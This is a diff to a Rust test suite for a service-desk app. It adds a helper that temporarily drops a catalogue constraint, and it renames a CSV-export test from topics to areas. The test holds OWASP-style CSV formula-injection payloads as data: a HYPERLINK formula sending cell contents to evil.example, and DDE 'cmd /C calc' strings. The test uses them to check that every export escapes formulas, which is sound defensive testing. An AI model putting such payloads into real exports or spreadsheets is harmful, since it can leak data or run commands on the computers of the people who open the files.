@@ -163,6 +163,23 @@ impl Planned {
 const FR_TARGET: i64 = 900;
 const RS_TARGET: i64 = 432_000;
 
+/// [`insert_planned`] as a case from before the service catalogue: its topic
+/// typed freely at the desk. Such cases stay in a deployed database (the
+/// catalogue's constraint is `NOT VALID`); this writes one the same way, by
+/// adding the case while the constraint is away and putting it back as the
+/// migration did.
+pub(crate) async fn insert_before_catalogue(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
+    sqlx::query("ALTER TABLE cases DROP CONSTRAINT cases_topic_in_catalogue").execute(&app.pool).await?;
+    let id = insert_planned(app, other, p).await?;
+    sqlx::query(
+        "ALTER TABLE cases ADD CONSTRAINT cases_topic_in_catalogue
+             FOREIGN KEY (topic) REFERENCES topics (code) NOT VALID",
+    )
+    .execute(&app.pool)
+    .await?;
+    Ok(id)
+}
+
 pub(crate) async fn insert_planned(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
     let pool = &app.pool;
     let opened: DateTime<Utc> = p.opened.parse()?;
@@ -728,10 +745,10 @@ async fn the_figures_in_memory_miss_no_commit_however_late() -> TestResult {
     app.teardown().await
 }
 
-/// Topics a desk could type, each starting the way a spreadsheet formula
+/// Areas typed as free text, each starting the way a spreadsheet formula
 /// can (OWASP's CSV injection list), and one plain one to show plain text
 /// passes as it is.
-const FORMULA_TOPICS: [&str; 7] = [
+const FORMULA_AREAS: [&str; 7] = [
     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -742,18 +759,20 @@ const FORMULA_TOPICS: [&str; 7] = [
 ];
 
 /// Every CSV Batline writes (the SLA report, the breaches, the dashboard's
-/// download and the public open data) writes a formula-looking topic as
+/// download and the public open data) writes a formula-looking area as
 /// text: quoted, the rest of the cell kept, the numbers still numbers.
+/// (Topics are codes of the service catalogue, which cannot look like
+/// formulas; areas typed before the districts were known can.)
 #[tokio::test]
 async fn no_csv_cell_starts_a_formula() -> TestResult {
     let app = TestApp::spawn().await?;
     let aino = app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
     let mikko = app.add_responder("mikko", "Mikko", &[Language::Fi], DutyStatus::OnDuty).await?;
-    // Five cases per topic, so /open shows each topic's name.
-    for topic in FORMULA_TOPICS {
+    // Five cases per area, so /open shows each area's name.
+    for area in FORMULA_AREAS {
         for day in 20..25 {
             let opened: &'static str = Box::leak(format!("2026-10-{day}T10:00:00Z").into_boxed_str());
-            insert_planned(&app, mikko.id, &Planned::new("Kallio", topic, "walk_in", aino.id, opened)).await?;
+            insert_planned(&app, mikko.id, &Planned::new(area, "streets", "walk_in", aino.id, opened)).await?;
         }
     }
     let expected = |topic: &str| {
@@ -766,7 +785,7 @@ async fn no_csv_cell_starts_a_formula() -> TestResult {
         let mut topics: Vec<&str> = lines.iter().filter_map(|line| line.get(at).map(String::as_str)).collect();
         topics.sort_unstable();
         topics.dedup();
-        let mut want: Vec<String> = FORMULA_TOPICS.iter().map(|t| expected(t)).collect();
+        let mut want: Vec<String> = FORMULA_AREAS.iter().map(|t| expected(t)).collect();
         want.sort_unstable();
         assert_eq!(topics, want, "{what}: {csv}");
         for line in &lines {
@@ -781,19 +800,19 @@ async fn no_csv_cell_starts_a_formula() -> TestResult {
     };
     let week = "from=2026-10-19&to=2026-10-25";
     let lead = app.sign_in("backstop").await?;
-    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/sla?{week}&by=topic&format=csv")).await?;
+    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/sla?{week}&by=area&format=csv")).await?;
     assert_eq!(status, 200);
     check("the SLA report", &csv, "group")?;
     let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/breaches?{week}&format=csv")).await?;
     assert_eq!(status, 200);
-    check("the breaches", &csv, "topic")?;
+    check("the breaches", &csv, "area")?;
 
     let mayor = app.add_responder("mayor", "Pormestari", &[Language::Fi], DutyStatus::Off).await?;
     sqlx::query("UPDATE responders SET role = 'mayor' WHERE id = $1").bind(mayor.id).execute(&app.pool).await?;
     let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build()?;
     let cookie = crate::roles::web_session(&http, &app.console, "mayor").await?;
     let export = http
-        .get(format!("{}/dashboard/export?from=2026-10-19&to=2026-10-25&by=topic&format=csv", app.console))
+        .get(format!("{}/dashboard/export?from=2026-10-19&to=2026-10-25&by=area&format=csv", app.console))
         .header("Cookie", &cookie)
         .send()
         .await?;
@@ -804,9 +823,9 @@ async fn no_csv_cell_starts_a_formula() -> TestResult {
     assert_eq!(open.status(), 200);
     let open = open.text().await?;
     let (_, lines) = parse_csv(&open)?;
-    let mut cells: Vec<&str> = lines.iter().filter(|l| l[0] == "topic").map(|l| l[1].as_str()).collect();
+    let mut cells: Vec<&str> = lines.iter().filter(|l| l[0] == "area").map(|l| l[1].as_str()).collect();
     cells.sort_unstable();
-    let mut want: Vec<String> = FORMULA_TOPICS.iter().map(|t| expected(t)).collect();
+    let mut want: Vec<String> = FORMULA_AREAS.iter().map(|t| expected(t)).collect();
     want.sort_unstable();
     assert_eq!(cells, want, "the open data: {open}");
     for line in &lines {
